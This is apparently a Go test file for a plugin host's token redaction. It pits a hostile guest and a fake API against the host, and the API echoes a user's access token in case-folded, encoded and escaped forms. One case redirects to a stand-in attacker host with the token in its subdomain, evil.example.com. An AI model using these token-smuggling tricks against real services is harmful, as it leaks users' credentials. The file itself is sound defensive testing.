package host

// The hostile guest that tries to fold the token back out of what an
// upstream echoes (testdata/guests/headercase), against an API that echoes
// it in every form the host claims to scrub: in a response header's name,
// which Go canonicalises, in other cases, escaped, base64-encoded, in a
// redirect's host (which URL parsing lower-cases) or path, and in a
// malformed response (which net/http quotes in its error). Nothing the
// guest gets, nothing it keeps in memory and no log line may hold the token
// in any case.

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"html"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
)

// newFoldUser makes a user whose tokens hold only characters valid in a
// header name and a DNS label, in mixed case, so that an upstream can put
// them where the transport changes case.
func newFoldUser(id string) fakeUser {
	r := make([]byte, 8)
	_, _ = rand.Read(r)
	h := hex.EncodeToString(r)
	return fakeUser{ID: id, UserToken: "utk_" + userMark + h + "_" + id, AccessToken: "gho_" + accessMark + h + "_Tail_" + id}
}

// swapCase inverts the case of every ASCII letter of s.
func swapCase(s string) string {
	b := []byte(s)
	for i, c := range b {
		switch {
		case 'a' <= c && c <= 'z':
			b[i] = c - 'a' + 'A'
		case 'A' <= c && c <= 'Z':
			b[i] = c - 'A' + 'a'
		}
	}
	return string(b)
}

// foldingAPI serves the /hc/ paths of the fake API: each echoes the
// request's token in a form the transport or an encoding changes.
func foldingAPI(_ *harness, w http.ResponseWriter, r *http.Request) bool {
	tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	switch p := r.URL.Path; {
	case p == "/hc/header-name":
		// Written as is; the client canonicalises the first one's case.
		w.Header()["x-tok-"+tok] = []string{"1"}
		w.Header()["X-"+strings.ToUpper(tok)] = []string{"2"}
		w.Header().Set("X-Value", swapCase(tok))
		w.Header().Set("Link", "<https://api.github.com/next?t="+strings.ToLower(url.QueryEscape(tok+"/"))+">; rel=next")
		writeJSONResponse(w, 200, map[string]any{"ok": true})
	case p == "/hc/body":
		writeJSONResponse(w, 200, map[string]any{
			"upper": strings.ToUpper(tok), "lower": strings.ToLower(tok), "swapped": swapCase(tok),
			"basic":   base64.StdEncoding.EncodeToString([]byte("x-access-token:" + tok)),
			"bearer":  base64.RawURLEncoding.EncodeToString([]byte("Bearer " + tok)),
			"plain":   base64.StdEncoding.EncodeToString([]byte(tok)),
			"html":    html.EscapeString("<" + swapCase(tok) + ">"),
			"quoted":  strconv.Quote(tok),
			"escaped": strings.ToLower(url.QueryEscape("t=" + tok + "&")),
		})
	case p == "/hc/redirect-host":
		http.Redirect(w, r, "https://"+swapCase(tok)+".evil.example.com/x", http.StatusFound)
	case p == "/hc/redirect-path":
		http.Redirect(w, r, "/hc/landing/"+swapCase(tok), http.StatusFound)
	case strings.HasPrefix(p, "/hc/landing/"):
		w.Header().Set("X-Landed", r.URL.Path)
		writeJSONResponse(w, 200, map[string]any{"path": r.URL.Path})
	case p == "/hc/near":
		// Pieces of the token, never the whole of it: legitimate data.
		w.Header().Set("Content-Type", "text/plain")
		w.Write([]byte(nearMisses(tok)))
	case p == "/hc/malformed":
		conn, buf, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return false
		}
		buf.WriteString("HTTP/1.1 200 OK\r\n" + swapCase(tok) + "\r\n\r\n")
		buf.Flush()
		conn.Close()
	default:
		return false
	}
	return true
}

func TestHostileHeaderCase(t *testing.T) {
	hh := newHarness(t, harnessOptions{guests: []string{"headercase"}, noGitHub: true, newUser: newFoldUser, api: foldingAPI, keepMemories: true})
	alice := hh.users["alice"]
	needles := []string{alice.AccessToken, alice.UserToken, accessMark, userMark}
	for path, want := range map[string][]string{
		"/hc/header-name":   {"X-Tok-[REDACTED]", `"X-[REDACTED]"`, `"X-Value":"[REDACTED]"`, "?t=[REDACTED]"},
		"/hc/body":          {`\"upper\":\"[REDACTED]\"`, `\"lower\":\"[REDACTED]\"`, `\"swapped\":\"[REDACTED]\"`, `\"quoted\":\"\\\"[REDACTED]\\\"\"`},
		"/hc/redirect-host": {"https://[REDACTED].evil.example.com/x", "bad_request"},
		"/hc/redirect-path": {"/hc/landing/[REDACTED]"},
		"/hc/malformed":     {"transport: ", "[REDACTED]"},
	} {
		t.Run(path, func(t *testing.T) {
			logsBefore := len(hh.logs.String())
			res := hh.call(t, "alice", "hostile_headercase", map[string]any{"path": path})
			res.wantOK(t)
			low := strings.ToLower(res.raw)
			for _, n := range needles {
				if strings.Contains(low, strings.ToLower(n)) {
					t.Errorf("the guest recovered %q, folding case:\n%s", n, clipText(res.raw, 4000))
				}
			}
			for _, w := range want {
				if !strings.Contains(res.raw, w) {
					t.Errorf("the answer lacks %q (did the probe run?):\n%s", w, clipText(res.raw, 4000))
				}
			}
			logs := strings.ToLower(hh.logs.String()[logsBefore:])
			for _, n := range needles {
				if i := strings.Index(logs, strings.ToLower(n)); i >= 0 {
					t.Errorf("a log line holds %q in some case: …%s…", n, logs[max(0, i-200):min(len(logs), i+100)])
				}
			}
			for mem, b := range hh.lastMemories("hostile-headercase") {
				for _, n := range needles {
					if i := bytes.Index(bytes.ToLower(b), []byte(strings.ToLower(n))); i >= 0 {
						t.Errorf("%s memory holds %q in some case at offset %d", mem, n, i)
					}
				}
			}
		})
	}
	// The token went to the API only, and as the host sent it.
	for _, r := range hh.api.requests() {
		if r.Auth != "Bearer "+alice.AccessToken {
			t.Errorf("the API received %s with Authorization %q", r.Path, r.Auth)
		}
	}
}

// lastMemories returns the memories of plugin name's last call, as that
// call left them.
func (hh *harness) lastMemories(name string) map[string][]byte {
	hh.mustKeepMemories()
	hh.scanMu.Lock()
	defer hh.scanMu.Unlock()
	return hh.lastMems[name]
}

// nearMisses is text built from pieces of tok that never holds it whole,
// nor the whole of its mark (which the harness's own scans look for): the
// token cut inside its mark, with a character of the mark left out, and
// its tail in upper case.
func nearMisses(tok string) string {
	m := strings.Index(tok, accessMark) + 5 // inside the mark
	return strings.Join([]string{tok[:m], tok[m:], tok[:m] + " " + tok[m:], tok[:m-1] + tok[m:],
		strings.ToUpper(tok[m:]), "followers o 1 t", tok[:m] + "\n" + tok[m:]}, "|")
}

// A userToken too short to be a secret is refused before anything runs,
// with the reference's invalid_parameter; with real tokens, data that holds
// pieces of them, but not them, comes back unaltered.
func TestHostileShortSecrets(t *testing.T) {
	hh := newHarness(t, harnessOptions{guests: []string{"headercase"}, noGitHub: true, api: foldingAPI,
		newUser: func(id string) fakeUser {
			u := newFoldUser(id)
			if id == "bob" {
				u.UserToken = "o"
			}
			return u
		}})
	backendBefore := len(hh.backend.requests())
	res := hh.call(t, "bob", "hostile_headercase", map[string]any{"path": "/hc/near"})
	res.wantToolError(t, "invalid_parameter")
	want := map[string]any{"error": "invalid_parameter", "message": "Invalid userToken format for github", "provider": "github",
		"details": "userToken must be at least 16 characters long; a shorter value is too short to be a secret", "retryable": false}
	for k, v := range want {
		if res.structured[k] != v {
			t.Errorf("error object %s = %v, want %v", k, res.structured[k], v)
		}
	}
	if n := len(hh.backend.requests()) - backendBefore; n != 0 {
		t.Errorf("the short userToken reached the backend %d times", n)
	}

	out := hh.call(t, "alice", "hostile_headercase", map[string]any{"path": "/hc/near"}).wantOK(t)
	answers, _ := out["answers"].([]any)
	first, _ := answers[0].(map[string]any)
	if body := first["body"]; body != nearMisses(hh.users["alice"].AccessToken) {
		t.Errorf("legitimate data was altered:\n got  %v\n want %s", body, nearMisses(hh.users["alice"].AccessToken))
	}
}
